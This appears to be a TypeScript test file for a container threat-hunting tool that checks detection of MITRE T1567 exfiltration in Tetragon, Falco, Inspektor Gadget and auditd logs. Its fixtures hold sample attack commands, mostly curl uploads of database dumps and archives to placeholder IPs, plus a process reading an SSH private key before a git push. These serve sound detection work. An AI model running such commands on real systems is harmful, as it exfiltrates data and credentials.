import { mkdtemp, readdir, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import type { HuntResult } from '../src/model/hunt-result.js';
import { contentFolder } from '../src/model/paths.js';
import { hunting } from './hunting.js';

const { hunt } = hunting();

/** What sensors of a runtime tell is used: one log as its product writes it, all kinds of events in one file. */

let folder: string;
beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), 'stowaway-runtime-'));
});
afterAll(async () => {
  await rm(folder, { recursive: true, force: true });
});

async function huntLines(name: string, lines: (object | string)[]): Promise<HuntResult> {
  const file = join(folder, name);
  await writeFile(
    file,
    lines.map((line) => `${typeof line === 'string' ? line : JSON.stringify(line)}\n`).join(''),
  );
  return hunt([file]);
}

const findingsOf = (result: HuntResult, technique: string) =>
  result.report.findings
    .filter((finding) => finding.technique === technique)
    .map(({ entity, why }) => ({ entity: entity.name, why }));

const UID = '3f1c9a7b5d2e4f60819a2b3c4d5e6f708192a3b4c5d6e7f8091a2b3c4d5e6f70';

const process = (binary: string, args: string) => ({
  ...{ pid: 5210, uid: 0, cwd: '/', binary, arguments: args, flags: 'execve clone' },
  start_time: '2026-11-21T08:00:00Z',
  pod: {
    ...{ namespace: 'shop', name: 'web-5d9c7b7f66-x2x4z' },
    container: { id: `containerd://${UID}`, name: 'web', image: { name: 'registry.example.net/shop/web:1' } },
  },
  docker: UID.slice(0, 31),
});

const tetragon = (kind: string, second: number, event: object) => ({
  [kind]: event,
  node_name: 'node-1',
  time: `2026-11-21T08:00:${String(second).padStart(2, '0')}.000000001Z`,
});

describe('a Tetragon export', () => {
  test('an upload in a container is evidence of T1567 on its workload; the same on the host is none', async () => {
    const {
      pod: _pod,
      docker: _docker,
      ...onHost
    } = process('/usr/bin/curl', '-T /tmp/a http://198.51.100.11/');
    const result = await huntLines('tetragon.log', [
      tetragon('process_exec', 1, { process: process('/usr/bin/curl', '-T file http://198.51.100.10/') }),
      tetragon('process_exit', 2, { process: process('/usr/bin/curl', '-T file http://198.51.100.10/') }),
      tetragon('process_exec', 3, { process: onHost }),
    ]);
    expect(result.deadLetters.total).toBe(0);
    expect(findingsOf(result, 'T1567')).toEqual([
      { entity: 'shop/web-5d9c7b7f66-x2x4z', why: 'curl uploads in the container (file)' },
    ]);
  });

  test('a script is read whatever its quotes, and an address with & is one word', async () => {
    const result = await huntLines('tetragon-script.log', [
      tetragon('process_exec', 1, {
        process: process('/bin/sh', '-c "tar cz "/srv/my data" | curl -T - http://198.51.100.10/in?a=1&b=2"'),
      }),
    ]);
    expect(findingsOf(result, 'T1567')[0]?.why).toContain('curl uploads');
  });

  test('each kind of event of one file is read by its own source, and a key that is read before a push counts', async () => {
    const lines = [
      tetragon('process_kprobe', 1, {
        process: process('/usr/bin/python3', '/srv/job.py'),
        function_name: 'security_file_permission',
        args: [{ file_arg: { path: '/root/.ssh/id_rsa' } }, { int_arg: 4 }],
        return: { int_arg: 0 },
      }),
      tetragon('process_kprobe', 2, {
        process: process('/usr/bin/git', 'push'),
        function_name: 'tcp_connect',
        args: [
          {
            sock_arg: {
              ...{ protocol: 'IPPROTO_TCP', saddr: '10.20.0.15', daddr: '198.51.100.10' },
              ...{ sport: 41200, dport: 22 },
            },
          },
        ],
      }),
      tetragon('process_exec', 3, {
        process: process('/usr/bin/git', 'push https://git.example.net/a.git main'),
      }),
    ];
    const result = await huntLines('tetragon-mixed.log', lines);
    expect(result.report.inputs.map(({ source, events }) => ({ source, events }))).toEqual(
      ['tetragon-file', 'tetragon-network', 'tetragon-process'].map((source) => ({ source, events: 1 })),
    );
    expect(findingsOf(result, 'T1567.001')[0]).toMatchObject({ entity: 'shop/web-5d9c7b7f66-x2x4z' });
    expect(findingsOf(result, 'T1567.001')[0]!.why).toContain('ssh key');
  });
});

describe('Falco alerts', () => {
  const alert = (second: number, fields: object, extra: object = {}) => ({
    ...{ output: 'x', priority: 'Notice', rule: 'A rule', source: 'syscall', tags: [], hostname: 'node-1' },
    time: `2026-11-21T08:00:0${second}.000000001Z`,
    output_fields: fields,
    ...extra,
  });

  test('what stands behind sh -c without its quotes is read as the script', async () => {
    const result = await huntLines('falco.log', [
      alert(1, {
        ...{ 'container.id': UID.slice(0, 12), 'container.name': 'app1', 'evt.type': 'execve' },
        ...{ 'proc.name': 'sh', 'proc.cmdline': 'sh -c sleep 1; curl -T /srv/db.sql http://198.51.100.10/' },
      }),
    ]);
    expect(findingsOf(result, 'T1567')).toEqual([
      { entity: 'app1', why: 'curl uploads in the container (/srv/db.sql)' },
    ]);
  });

  test('the Kubernetes audit plug-in tells of an exec that uploads', async () => {
    const uri =
      '/api/v1/namespaces/shop/pods/web-1/exec?command=curl&command=-T&command=%2Fsrv%2Fdb.sql&command=http%3A%2F%2F198.51.100.10%2F';
    const result = await huntLines('falco-k8s.log', [
      alert(
        1,
        {
          ...{ 'ka.verb': 'create', 'ka.uri': uri, 'ka.user.name': 'alice', 'ka.target.name': 'web-1' },
          ...{ 'ka.target.resource': 'pods', 'ka.target.subresource': 'exec', 'ka.target.namespace': 'shop' },
        },
        { source: 'k8s_audit' },
      ),
    ]);
    expect(findingsOf(result, 'T1567')).toEqual([
      { entity: 'shop/web-1', why: 'curl uploads in the container (/srv/db.sql)' },
    ]);
  });
});

describe('Inspektor Gadget', () => {
  const gadget = (second: number, args: string[], isInContainer = true) => ({
    ...{ args: args.join('\u00a0'), args_count: args.length, error: '', error_raw: 0 },
    proc: { comm: args[0], pid: 5210, tid: 5210, mntns_id: 4026534339, parent: { comm: 'sh', pid: 1 } },
    k8s: isInContainer
      ? { namespace: 'shop', podName: 'web-5d9c7b7f66-x2x4z', containerName: 'web', node: 'node-1' }
      : { namespace: '', podName: '', containerName: '', node: 'node-1' },
    runtime: { containerId: isInContainer ? UID : '', containerName: isInContainer ? 'web' : '' },
    timestamp: `2026-11-21T08:00:0${second}.000000001Z`,
  });

  test('an upload in a container is evidence, with its script’s quotes; on the host, and a download, are none', async () => {
    const result = await huntLines('gadget.log', [
      gadget(1, ['sh', '-c', "tar cz '/srv/my data' | curl -T - http://198.51.100.10/"]),
      gadget(2, ['curl', '-T', '/srv/db.sql', 'http://198.51.100.11/'], false),
    ]);
    expect(result.deadLetters.total).toBe(0);
    const [finding, ...others] = findingsOf(result, 'T1567');
    expect([finding?.entity, others]).toEqual(['shop/web-5d9c7b7f66-x2x4z', []]);
    expect(finding?.why).toContain('curl uploads');
    const benign = await huntLines('gadget-benign.log', [
      gadget(1, ['curl', '-o', '/tmp/a', 'http://198.51.100.10/a']),
    ]);
    expect(benign.report.findings).toEqual([]);
  });
});

describe('auditd', () => {
  const exec = (serial: number, args: string[], label: string) => [
    `type=SYSCALL msg=audit(1795248000.00${serial}:${serial}): arch=c000003e syscall=59 success=yes exit=0 ppid=1 pid=52${serial} uid=0 comm="${args[0]}" exe="/usr/bin/${args[0]}" subj=${label} key="commands"`,
    `type=EXECVE msg=audit(1795248000.00${serial}:${serial}): argc=${args.length} ${args.map((word, index) => `a${index}="${word}"`).join(' ')}`,
  ];
  const upload = ['curl', '-T', '/srv/db.sql', 'http://198.51.100.10/'];
  const CONTAINER = 'system_u:system_r:container_t:s0:c123,c456';

  test('an upload of a process that SELinux holds to be a container’s is its; the host’s and a download are none', async () => {
    const result = await huntLines('audit.log', [
      ...exec(1, upload, CONTAINER),
      ...exec(2, upload, 'unconfined_u:unconfined_r:unconfined_t:s0-s0:c0.c1023'),
    ]);
    expect(result.deadLetters.total).toBe(0);
    expect(findingsOf(result, 'T1567')).toEqual([
      { entity: 's0:c123,c456', why: 'curl uploads in the container (/srv/db.sql)' },
    ]);
    const benign = await huntLines(
      'audit-benign.log',
      exec(3, ['curl', '-O', 'http://a.example/'], CONTAINER),
    );
    expect(benign.report.findings).toEqual([]);
  });

  test('commands of nobody’s container are no commands that were looked at', async () => {
    const result = await huntLines('audit-host.log', exec(4, upload, 'kernel'));
    expect(result.report.findings).toEqual([]);
    const reasons = result.report.strategies.flatMap((strategy) => strategy.reasons).join('\n');
    expect(reasons).toContain('no commands');
  });
});

describe('an address that a sensor saw a container connect from', () => {
  const connect = (second: number, process: object, saddr: string) =>
    tetragon('process_kprobe', second, {
      ...{ process, function_name: 'tcp_connect' },
      args: [
        { sock_arg: { protocol: 'IPPROTO_TCP', saddr, daddr: '198.51.100.10', sport: 41200, dport: 80 } },
      ],
    });
  const upload = (saddr: string) => ({
    ...{ _path: 'conn', ts: Date.parse('2026-11-21T08:00:02Z') / 1000, uid: 'C1', proto: 'tcp' },
    ...{ 'id.orig_h': saddr, 'id.orig_p': 41200, 'id.resp_h': '198.51.100.10', 'id.resp_p': 80 },
    ...{ conn_state: 'SF', duration: 60, orig_bytes: 500_000_000, resp_bytes: 900 },
    ...{ orig_pkts: 400_000, orig_ip_bytes: 520_000_000, resp_pkts: 100, resp_ip_bytes: 6000 },
  });
  const curl = process('/usr/bin/curl', '-T /srv/db.sql http://198.51.100.10/');
  const { pod: _pod, docker: _docker, ...onHost } = curl;
  const other = {
    ...curl,
    pod: {
      ...curl.pod,
      name: 'other-1',
      container: { ...curl.pod.container, id: `containerd://${'ab'.repeat(32)}` },
    },
  };

  async function uploaders(name: string, events: object[]): Promise<string[]> {
    const result = await huntLines(name, [
      tetragon('process_exec', 1, { process: curl }),
      tetragon('process_exec', 1, { process: other }),
      ...events,
      upload('10.20.0.15'),
    ]);
    return result.report.findings
      .filter(({ technique, status }) => technique === 'T1567' && status === 'open')
      .map(({ entity }) => `${entity.kind}:${entity.name}`);
  }

  test('is its workload to every other sensor', async () => {
    expect(await uploaders('one.log', [connect(2, curl, '10.20.0.15')])).toEqual([
      'workload:shop/web-5d9c7b7f66-x2x4z',
    ]);
  });

  test('is nobody when the host or another workload uses it too', async () => {
    const address = ['address:10.20.0.15'];
    expect(
      await uploaders('host.log', [connect(2, curl, '10.20.0.15'), connect(3, onHost, '10.20.0.15')]),
    ).toEqual(address);
    const both = [
      connect(2, curl, '10.20.0.15'),
      connect(3, other, '10.20.0.15'),
      connect(4, curl, '10.20.0.15'),
    ];
    expect(await uploaders('two.log', both)).toEqual(address);
  });
});

test('the samples of all these sources in one log are read by the same sources, line by line', async () => {
  const root = contentFolder('sources');
  const ids = (await readdir(root)).filter((id) =>
    /^(?:falco|tetragon|tracee|kubearmor|inspektor-gadget)(?:-(?!other)|$)/.test(id),
  );
  const expected: Record<string, number> = {};
  const lines: string[] = [];
  for (const id of ids) {
    for (const name of (await readdir(join(root, id))).filter((one) => one.startsWith('sample.'))) {
      const rows = (await readFile(join(root, id, name), 'utf8')).trimEnd().split('\n');
      expected[id] = (expected[id] ?? 0) + rows.length;
      lines.push(...rows);
    }
  }
  // Every seventh line: neighbours are of different kinds.
  const shuffled = lines.map((_, index) => lines[(index * 7) % lines.length]!);
  expect(new Set(shuffled).size).toBe(new Set(lines).size);
  const result = await huntLines('all.log', shuffled);
  const read = result.report.inputs.map((input) => [
    input.source,
    input.events + input.rejected + input.duplicates,
  ]);
  expect(Object.fromEntries(read)).toEqual(expected);
  expect(result.mismatches).toEqual([]);
});
